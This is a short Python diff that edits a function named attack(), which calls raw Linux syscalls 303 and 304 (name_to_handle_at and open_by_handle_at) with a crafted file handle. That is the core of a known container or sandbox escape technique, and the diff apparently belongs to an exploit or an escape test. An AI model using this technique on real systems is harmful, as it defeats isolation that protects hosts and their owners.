@@ -34,10 +34,9 @@ def syscall(number, *arguments):
 def attack():
     handle = ctypes.create_string_buffer(b"\x80\0\0\0", 256)
     mount = ctypes.c_int()
-    here = os.open("/", os.O_RDONLY)
     return tries(
-        lambda: syscall(303, here, b"tmp", handle, ctypes.byref(mount), 0),
-        lambda: syscall(304, here, handle, 0),
+        lambda: syscall(303, os.open("/", os.O_RDONLY), b"tmp", handle, ctypes.byref(mount), 0),
+        lambda: syscall(304, os.open(".", os.O_RDONLY), handle, 0),
     )
 
 
